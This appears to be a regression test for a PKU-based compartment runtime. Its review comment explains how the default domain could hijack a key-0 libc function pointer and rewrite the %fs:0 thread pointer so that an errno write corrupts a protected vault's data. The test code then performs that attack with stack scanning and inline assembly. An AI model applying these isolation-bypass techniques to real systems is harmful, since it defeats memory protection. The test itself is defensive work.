// Review (attackB): the runtime's C interposers in spawn.c and threads.c
// (timer_create, clone, system/popen, posix_spawn, pthread_create) run with
// the calling compartment's rights, and set errno there. errno was reached
// through __errno_location(), which adds the thread pointer it reads from
// %fs:0 -- the TCB's self word, key-0 memory any domain can rewrite.
//
// The attack: the vault calls timer_create. The runtime copies the request
// and calls libc through bh_as_default, with the default domain's rights, via
// a key-0 function pointer (spawn.c's libc_timer_create). The default
// domain (the attacker, controlling its own program counter) has rewritten
// that pointer; its stand-in rewrites the thread's %fs:0 so that &errno is
// the vault's secret, and returns, as bh_as_default's callee would, the
// "error" -0x41414141. The checked way back (__bulkhead_return_to_index)
// accepts it: it is this thread's own call, with a live cookie. The vault's
// timer_create then ran `errno = 0x41414141` with the vault's rights: a
// write of a chosen value to a chosen address in the vault's data.
// Fixed: the runtime's own errno is __bulkhead_errno_location()
// (runtime/internal.h, runtime/tls.c): the FS base from RDFSBASE (or
// arch_prctl) plus an offset on a read-only page, never %fs:0. The vault's
// errno gets the value instead of its secret.
// Before: "BROKEN: the default domain wrote the vault's data".
// REQUIRES: pku
// RUN: %bulkhead_clang -fpkey-compartments -O2 %s -o %t
// RUN: %run %t | FileCheck %s
// CHECK: attacks-review-pc-errno: ok
#include "Inputs/check.h"
#include <dlfcn.h>
#include <errno.h>
#include <link.h>
#include <time.h>

BULKHEAD_DATA(vault) static int secret = 1234;

BULKHEAD_ENTRY(vault) int vault_timer(void) {
  timer_t id;
  int r = timer_create(CLOCK_MONOTONIC, NULL, &id);
  if (r == 0)
    timer_delete(id);
  return r ? errno : 0; /* the error the interposer set, read as the vault reads it */
}
BULKHEAD_ENTRY(vault) int vault_get(void) { return secret; }
BULKHEAD_ENTRY(vault) void *vault_where(void) { return &secret; }

extern char bh_as_default[]; /* runtime/spawn.c, hidden in this link */

static char *target, *saved_self;
static uintptr_t ret_after_call; /* bh_as_default's return address */

/* Stands in for libc's timer_create, called by spawn.c's timer_as_default
 * on the default domain's stack, with its rights. */
static int fake_timer_create(clockid_t c, struct sigevent *e, timer_t *id) {
  (void)c, (void)e, (void)id;
  char *self;
  __asm__ volatile("movq %%fs:0, %0" : "=r"(self));
  saved_self = self;
  long off = (char *)__errno_location() - self;
  /* Find bh_as_default's frame: the return address of its `callq *%r12`. */
  volatile uintptr_t *sp;
  __asm__ volatile("movq %%rsp, %0" : "=r"(sp));
  int k = 0;
  while (k < 4096 && sp[k] != ret_after_call)
    k++;
  if (k == 4096)
    _exit(3);
  char *newself = target - off;
  __asm__ volatile("movq %0, %%fs:0\n\t"
                   "movq %1, %%rsp\n\t"
                   "movq %2, %%rax\n\t"
                   "xorl %%edx, %%edx\n\t"
                   "ret\n"
                   :
                   : "r"(newself), "r"(&sp[k]), "r"(-(long)0x41414141)
                   : "memory");
  __builtin_unreachable();
}

static uintptr_t relro_lo, relro_hi;
static uintptr_t *slot;
static int find(struct dl_phdr_info *info, size_t size, void *data) {
  (void)size;
  void *libc_fn = data;
  for (int i = 0; i < info->dlpi_phnum; i++)
    if (info->dlpi_phdr[i].p_type == PT_GNU_RELRO) {
      relro_lo = info->dlpi_addr + info->dlpi_phdr[i].p_vaddr;
      relro_hi = relro_lo + info->dlpi_phdr[i].p_memsz;
    }
  for (int i = 0; i < info->dlpi_phnum; i++) {
    const ElfW(Phdr) *ph = &info->dlpi_phdr[i];
    if (ph->p_type != PT_LOAD || !(ph->p_flags & PF_W))
      continue;
    uintptr_t lo = info->dlpi_addr + ph->p_vaddr, hi = lo + ph->p_memsz;
    for (uintptr_t a = (lo + 7) & ~7ul; a + 8 <= hi; a += 8)
      if ((a < relro_lo || a >= relro_hi) &&
          (a >> 12) + 2 - ((uintptr_t)target >> 12) > 4 && /* its 2 pages */
          *(void **)a == libc_fn) {
        slot = (uintptr_t *)a;
        return 1;
      }
  }
  return 1; /* the executable only */
}

int main(void) {
  /* Once from the default domain: spawn.c looks up libc's timer_create. */
  timer_t id;
  CHECK(timer_create(CLOCK_MONOTONIC, NULL, &id) == 0);
  timer_delete(id);
  void *libc_fn = dlsym(RTLD_NEXT, "timer_create");
  target = vault_where(); /* the vault's data page: not scanned */
  dl_iterate_phdr(find, libc_fn);
  CHECK(slot);
  for (int i = 0; i < 4096; i++)
    if ((unsigned char)bh_as_default[i] == 0x41 &&
        (unsigned char)bh_as_default[i + 1] == 0xff &&
        (unsigned char)bh_as_default[i + 2] == 0xd4) {
      ret_after_call = (uintptr_t)&bh_as_default[i + 3];
      break;
    }
  CHECK(ret_after_call);
  printf("secret before: %d\n", vault_get());
  *slot = (uintptr_t)fake_timer_create; /* a key-0 store */
  int r = vault_timer();
  __asm__ volatile("movq %0, %%fs:0" : : "r"(saved_self) : "memory");
  int now = vault_get();
  printf("vault_timer: errno 0x%x, secret after: %d (0x%x)\n", r, now, now);
  if (now != 1234) {
    printf("attacks-review-pc-errno: BROKEN: the default domain wrote the vault's data\n");
    return 1;
  }
  CHECK(r == 0x41414141); /* it went to the vault's errno instead */
  puts("attacks-review-pc-errno: ok");
  return 0;
}
